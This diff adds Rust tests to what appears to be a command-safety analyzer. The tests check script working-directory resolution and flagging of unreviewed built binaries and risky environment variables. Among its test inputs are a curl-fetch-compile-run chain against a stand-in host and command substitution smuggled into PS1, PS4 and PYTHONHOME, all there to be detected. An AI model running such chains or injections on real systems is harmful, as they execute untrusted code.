@@ -325,6 +325,74 @@ fn files_are_looked_through() {
     found_in("./loop.sh", &world);
 }
 
+#[test]
+fn scripts_know_their_own_place() {
+    let world = Made(&[
+        ("/work/tools/a.sh", "cd \"$(dirname \"$0\")/..\" && ls a\n"),
+        ("/work/tools/b.sh", "here=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\nls \"$here/b\"\n"),
+    ]);
+    let place = |text: &str| {
+        let environment = Environment::new("/work", "/home/dev");
+        let resolved = resolve(text, "/work".into(), &environment, &world, None);
+        let last = resolved.invocations.iter().rfind(|found| found.words[0].text() == Some("ls")).unwrap();
+        (format!("{:?}", last.cwd), last.words[1].text().unwrap_or("?").to_owned())
+    };
+    for text in ["bash tools/a.sh", "./tools/a.sh", "cd tools; ./a.sh"] {
+        assert_eq!(place(text), ("Some(Known(\"/work\"))".to_owned(), "a".to_owned()), "{text}");
+    }
+    for text in ["bash tools/b.sh", "source tools/b.sh", ". ./tools/b.sh"] {
+        assert_eq!(place(text).1, "/work/tools/b", "{text}");
+    }
+}
+
+#[test]
+fn what_the_line_builds_may_run() {
+    let world = Made(&[("/work/a.c", "int main(){}")]);
+    let said = |text: &str| found_in(text, &world).1;
+    for text in [
+        "cc a.c -o app && ./app",
+        "python3 -m venv v && . v/bin/activate && ls",
+        "cargo build && ./target/debug/x",
+    ] {
+        assert_eq!(said(text), [""; 0], "{text}");
+    }
+    for text in [
+        "./app",
+        "ls && ./app",
+        "cc a.c -o /home/dev/app && /home/dev/app",
+        "curl -o b.c http://host.example/b.c && cc b.c -o app && ./app",
+        "echo 'int main(){}' > b.c; cc b.c -o app && ./app",
+    ] {
+        assert_eq!(said(text), ["unread-script-missing"], "{text}");
+    }
+}
+
+#[test]
+fn variables_may_be_put_back() {
+    let asks = |text: &str| {
+        let environment = Environment::new("/work", "/home/dev");
+        let resolved = resolve(text, "/work".into(), &environment, &Made(&[]), None);
+        let said = resolved.readings.iter().flat_map(|reading| &reading.opinions).chain(&resolved.opinions);
+        said.filter(|opinion| opinion.id.starts_with("environment-")).count() > 0
+    };
+    for text in [
+        "PYTHONHOME=\"${_OLD_VIRTUAL_PYTHONHOME:-}\"; export PYTHONHOME",
+        "PS1=\"(venv) ${PS1:-}\"; export PS1",
+        "export PS1='> '",
+    ] {
+        assert!(!asks(text), "{text}");
+    }
+    for text in [
+        "PYTHONHOME=/tmp/x python3 -V",
+        "export PYTHONHOME=$(echo PYTHONHOME)",
+        "export PYTHONHOME=$OTHER",
+        "export PS1='$(ls)'",
+        "PS4='`ls`' bash -x a.sh",
+    ] {
+        assert!(asks(text), "{text}");
+    }
+}
+
 /// Words of many kinds, put together by chance, expanded here and by bash.
 #[test]
 fn words_expand_as_in_bash() {
